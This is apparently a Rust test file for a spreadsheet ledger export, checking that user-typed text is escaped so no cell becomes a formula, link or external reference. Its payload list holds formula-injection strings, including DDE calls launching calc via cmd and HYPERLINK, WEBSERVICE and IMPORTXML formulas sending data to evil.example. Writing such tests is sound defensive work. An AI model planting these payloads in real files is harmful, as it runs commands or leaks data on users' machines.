//! S4: whatever people typed, the workbook that goes out holds no formula and points to nothing outside.

use super::*;
use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
use clap::ValueEnum;
use std::io::{Cursor, Read};

/// How texts become formulas in one spreadsheet or another.
const PAYLOADS: [&str; 24] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    " =1+1",
    "\u{3000}=1+1",
    "\u{a0}+1+1",
    "\u{feff}@SUM(1+1)",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
    "=WEBSERVICE(\"http://evil.example/\")",
    "=IMPORTXML(\"http://evil.example/\",\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "-2+3+cmd|' /C calc'!D2",
    "=\n1+1",
];

/// Texts that look like more than text, and are none for a cell.
const HARMLESS: [&str; 4] =
    ["http://evil.example/", "</t></si><f>1+1</f>", "李伟\n=1+1", "mailto:a@evil.example"];

/// A ledger in which every text is the same.
fn of(ledger: Ledger, text: &str) -> Table {
    let cells = vec![Cell::from(text); ledger.columns().len()];
    let line = Line { cells: cells.clone(), ..Line::default() };
    let (above, total) = (text.to_owned(), text.to_owned());
    Table { lines: vec![line], above, total, sums: Some(cells), ..Table::default() }
}

fn heading(text: &str) -> Heading {
    let text = || text.to_owned();
    Heading {
        unit: text(),
        filled_on: text(),
        made_by: text(),
        made_at: "2026-11-26 10:05".to_owned(),
        full: true,
        ..Heading::default()
    }
}

fn parts(bytes: &[u8]) -> Vec<(String, String)> {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut parts = Vec::new();
    for at in 0..zip.len() {
        let mut part = zip.by_index(at).unwrap();
        let mut bytes = Vec::new();
        part.read_to_end(&mut bytes).unwrap();
        parts.push((part.name().to_owned(), String::from_utf8(bytes).unwrap()));
    }
    parts
}

/// Asserts that every cell is text that stays text, and that no part names anything outside.
#[track_caller]
fn is_only_text(bytes: &[u8], of: &str) {
    for (name, xml) in parts(bytes) {
        assert!(!name.contains("externalLink") && !name.contains("vbaProject"), "{name}, {of:?}");
        assert!(!xml.contains("TargetMode"), "{name} has a target outside, {of:?}");
        if !name.starts_with("xl/worksheets/") {
            continue;
        }
        for element in ["<f>", "<f ", "<hyperlink", "<dataValidation", "<conditionalFormatting", "<oleObject"]
        {
            assert!(!xml.contains(element), "{name} has {element}, {of:?}");
        }
        for cell in xml.split("<c ").skip(1) {
            let (attributes, _) = cell.split_once('>').unwrap();
            assert!(attributes.contains("t=\"s\"") || attributes.ends_with('/'), "{cell}");
        }
    }
    let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    for sheet in book.sheet_names() {
        assert_eq!(book.worksheet_formula(&sheet).unwrap().used_cells().count(), 0);
        for (row, column, value) in book.worksheet_range(&sheet).unwrap().used_cells() {
            let Data::String(text) = value else { panic!("{value:?} at {row}/{column} is no text, {of:?}") };
            assert!(text.starts_with('\'') || text_cell(text) == *text, "{row}/{column}: {text:?}, {of:?}");
        }
    }
}

#[test]
fn no_text_becomes_a_formula_or_a_link() {
    for payload in PAYLOADS {
        assert_eq!(text_cell(payload), format!("'{payload}"));
    }
    for payload in PAYLOADS.into_iter().chain(HARMLESS) {
        for ledger in Ledger::value_variants() {
            let bytes = sheet(*ledger, &heading(payload), &of(*ledger, payload)).unwrap();
            is_only_text(&bytes, payload);
        }
    }
}

#[test]
fn each_page_says_who_made_it_and_when() {
    for name in ["经办员", "a&b", &"很长的名字".repeat(80)] {
        let bytes = sheet(Ledger::FollowUp, &heading(name), &Table::default()).unwrap();
        let parts = parts(&bytes);
        let (_, xml) = parts.iter().find(|(name, _)| name.starts_with("xl/worksheets/")).unwrap();
        let footer = xml.split_once("<oddFooter>").unwrap().1.split_once("</oddFooter>").unwrap().0;
        let shown: String = name.chars().take(3).collect();
        assert!(
            footer.contains(&shown.replace('&', "&amp;&amp;")) && footer.contains("2026-11-26 10:05"),
            "{footer}"
        );
        assert!(footer.contains("含完整证号"), "{footer}");
    }
}

#[test]
fn a_text_longer_than_a_cell_does_not_stop_the_export() {
    let long = "长".repeat(40_000);
    let bytes = sheet(Ledger::FollowUp, &Heading::default(), &of(Ledger::FollowUp, &long)).unwrap();
    is_only_text(&bytes, "a long text");
    assert!(text_cell(&"😀".repeat(40_000)).encode_utf16().count() < 32_767);
    assert_eq!(text_cell(&"长".repeat(32_000)), "长".repeat(32_000));
}
